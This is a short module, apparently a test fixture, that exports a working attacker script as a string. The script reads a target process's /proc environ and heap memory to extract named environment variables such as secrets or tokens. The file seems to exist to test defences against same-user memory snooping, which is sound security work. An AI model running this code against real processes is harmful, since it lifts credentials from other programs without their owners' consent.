/**
 * A program of an attacker, for `node --input-type=module -e`: prints what the process PID has of these variables, `NAME=value`, from
 * its environment as /proc shows it, and else from its memory, which the same user may read where the kernel lets it.
 */
export const STEAL_MEMORY = `
import { closeSync, openSync, readFileSync, readSync } from 'node:fs';
const [pid, ...names] = process.argv.slice(1);
const found = new Map();
const note = (text) => {
  for (const name of names) {
    if (found.has(name)) continue;
    const value = new RegExp('(?:^|\\\\0)' + name + '=([^\\\\0]+)').exec(text)?.[1];
    if (value !== undefined) found.set(name, value);
  }
};
note(readFileSync('/proc/' + pid + '/environ', 'latin1'));
const memory = openSync('/proc/' + pid + '/mem', 'r');
for (const line of readFileSync('/proc/' + pid + '/maps', 'utf8').split('\\n')) {
  const [, start, end] = /^([0-9a-f]+)-([0-9a-f]+) rw.*\\[heap\\]/.exec(line) ?? [];
  if (start === undefined || found.size === names.length) continue;
  const from = Number.parseInt(start, 16);
  const bytes = Buffer.alloc(Number.parseInt(end, 16) - from);
  try {
    note(bytes.toString('latin1', 0, readSync(memory, bytes, 0, bytes.length, from)));
  } catch {}
}
closeSync(memory);
for (const [name, value] of found) console.log(name + '=' + value);
`;
